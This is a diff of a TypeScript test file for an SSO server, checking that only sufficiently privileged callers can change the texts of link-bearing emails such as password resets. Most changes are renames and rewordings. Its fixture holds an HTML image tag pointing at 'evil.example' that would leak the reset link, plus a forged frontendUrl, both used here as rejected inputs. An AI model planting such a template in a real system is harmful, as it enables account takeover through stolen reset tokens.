@@ -1,13 +1,13 @@
-// Texts of emails with a link decide where it goes: who writes them could act as anybody who gets one.
+// Texts of emails with a link control where it leads: a caller who writes them could act as any user who gets one.
 import { afterAll, expect, test } from 'vitest'
 import { emailsWithLink } from '../../src/kinds/localization.ts'
-import { LINK_PLACEHOLDER, insertLink } from '../../src/oidc/mail/insert-link.ts'
+import { insertLink, LINK_PLACEHOLDER } from '../../src/oidc/mail/insert-link.ts'
 import { emailTemplates } from '../../src/service/messages/email-templates.ts'
+import { createAdminRealm } from '../support/admin-realm.ts'
 import { openMailbox } from '../support/mailbox.ts'
-import { createAdminRealm } from '../support/realm-with-boss.ts'
-import { applySource, createSource } from '../support/reconcile.ts'
 import { testServer } from '../support/server.ts'
 import { newName, testService } from '../support/service.ts'
+import { applySource, createSource } from '../support/sources.ts'
 
 const { call, make, realm } = await testServer()
 const { service } = await testService()
@@ -16,17 +16,17 @@ afterAll(() => mailbox.close())
 
 const IMAGE = '<p>Hello</p><img src="http://evil.example/?{0}">'
 
-test('texts of emails with a link are set, changed and deleted only by who is not weaker than anybody', async () => {
+test('texts of emails with a link are set, updated and deleted only by a caller who is not weaker than any user', async () => {
   const { as, expectForbidden } = await createAdminRealm({ manager: 'manage-realm' })
   for (const name of ['passwordResetBodyHtml', 'executeActionsBody', 'emailVerificationBodyHtml']) {
     await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
     await expectForbidden('manager', 'POST', 'localization/de', { hello: 'Hallo', [name]: IMAGE })
-    expect((await as('boss', 'POST', 'localization/en', { [name]: 'Follow {0}' })).status).toBe(204)
+    expect((await as('admin', 'POST', 'localization/en', { [name]: 'Follow {0}' })).status).toBe(204)
     await expectForbidden('manager', 'POST', 'localization/en', { [name]: IMAGE })
     await expectForbidden('manager', 'DELETE', `localization/en/${name}`)
   }
   await expectForbidden('manager', 'DELETE', 'localization/en')
-  expect((await as('boss', 'GET', 'localization/en')).body.passwordResetBodyHtml).toBe('Follow {0}')
+  expect((await as('admin', 'GET', 'localization/en')).body.passwordResetBodyHtml).toBe('Follow {0}')
   await expectForbidden('manager', 'PUT', '', { attributes: { frontendUrl: 'http://evil.example' } })
 
   expect((await as('manager', 'POST', 'localization/en', { loginAccountTitle: 'Welcome' })).status).toBe(204)
@@ -34,23 +34,26 @@ test('texts of emails with a link are set, changed and deleted only by who is no
   expect((await as('manager', 'DELETE', 'localization/fr')).status).toBe(204)
 })
 
-test('PUT of a single text of an email with a link returns 403 for who is weaker', async () => {
+test('PUT of a single text of an email with a link returns 403 for a weaker caller', async () => {
   const { path, token } = await createAdminRealm({ manager: 'manage-realm' })
-  const put = async (person: string) =>
+  const put = async (caller: string) =>
     call('PUT', `${path}/localization/en/passwordResetBodyHtml`, {
-      token: await token(person),
+      token: await token(caller),
       headers: { 'content-type': 'text/plain' },
       body: IMAGE,
     })
   expect((await put('manager')).status).toBe(403)
-  expect((await put('boss')).status).toBe(204)
+  expect((await put('admin')).status).toBe(204)
 })
 
-test('a limited source declares no text of an email with a link in a realm with somebody stronger', async () => {
+test('a limited source cannot declare a text of an email with a link in a realm with a stronger user', async () => {
   const name = newName()
-  const declared = (content: object) => ({ ...createSource([{ realm: name, ...content }], name), sourcePermissions: { roles: [] } })
-  const boss = { username: 'boss', clientRoles: { 'realm-management': ['realm-admin'] } }
-  await applySource(service, createSource([{ realm: name, users: [boss] }], `${name}-owner`))
+  const declared = (content: object) => ({
+    ...createSource([{ realm: name, ...content }], name),
+    sourcePermissions: { roles: [] },
+  })
+  const admin = { username: 'admin', clientRoles: { 'realm-management': ['realm-admin'] } }
+  await applySource(service, createSource([{ realm: name, users: [admin] }], `${name}-owner`))
   await applySource(service, declared({ localizationTexts: { en: { hello: 'Hello' } } }))
   const stolen = declared({ localizationTexts: { en: { hello: 'Hello', executeActionsBodyHtml: IMAGE } } })
   await expect(applySource(service, stolen)).rejects.toMatchObject({
@@ -58,14 +61,14 @@ test('a limited source declares no text of an email with a link in a realm with 
   })
 })
 
-test('every email with a link is among those whose texts decide', () => {
+test('the list of emails with a link is complete', () => {
   const linked = Object.entries(emailTemplates).flatMap(([name, values]) =>
     (values as readonly string[]).includes('link') ? [name] : [],
   )
   expect(linked.sort()).toEqual([...emailsWithLink].sort())
 })
 
-test('an email of a realm puts its link into the address of an anchor and into text, and nowhere else', async () => {
+test('an email contains its link only in the URL of an anchor and in text', async () => {
   const smtpServer = { host: '127.0.0.1', port: mailbox.port, from: 'sso@example.org' }
   const path = await realm({ smtpServer })
   const user = await make(`${path}/users`, { username: 'ann', enabled: true, email: 'ann-link@example.org' })
